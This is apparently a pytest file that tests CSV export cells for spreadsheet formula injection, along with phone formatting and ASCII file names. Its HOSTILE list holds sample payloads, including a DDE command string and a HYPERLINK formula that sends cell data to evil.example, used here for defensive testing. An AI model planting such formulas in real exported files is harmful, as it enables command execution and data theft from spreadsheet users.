"""Export cells: formula injection neutralised (OWASP), real numbers left as numbers."""

import csv
import io
from decimal import Decimal

import pytest

from bot.services.exports import Phone, cell, csv_bytes, file_name

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "@SUM(A1:A9)",
           "\t=1", "\r=1", "-2+3", "=1+1", "+84912345678"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_a_leading_apostrophe(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Cơ sở A", "0912 345 678", "1.500", "12,5", "a=b", " =1", "NC-2026-0001", ""])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", [12, 0, -5, Decimal("12.50"), 3.5])
def test_real_numbers_stay_numbers(number: object) -> None:
    assert cell(number) == number


def test_a_csv_of_hostile_cells_reads_back_neutralised() -> None:
    data = csv_bytes(["Text", "Count", "Amount"], [[t, 7, Decimal("12.5")] for t in HOSTILE] + [[None, None, None]])
    assert data.startswith(b"\xef\xbb\xbfsep=,\r\n")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert rows[0] == ["Text", "Count", "Amount"]
    assert [r[0] for r in rows[1:-1]] == ["'" + t for t in HOSTILE]
    assert all(r[1:] == ["7", "12.5"] for r in rows[1:-1])
    assert rows[-1] == ["", "", ""]


@pytest.mark.parametrize(("phone", "shown"), [("0912 345 678", "0912 345 678"), ("0912345678", "0912 345 678"),
                                              ("02963852123", "0296 385 2123"), ("+84912345678", "'+84912345678")])
def test_phones_stay_text_to_a_spreadsheet(phone: str, shown: str) -> None:
    assert cell(Phone(phone)) == shown


def test_file_names_say_what_they_hold_in_plain_ascii() -> None:
    assert file_name("nhu cầu", "Đã duyệt (đưa vào đề án/kế hoạch)", "Phường Long Xuyên", "2026-03-02") == (
        "nhu-cau_da-duyet-dua-vao-de-an-ke-hoach_phuong-long-xuyen_2026-03-02.csv")
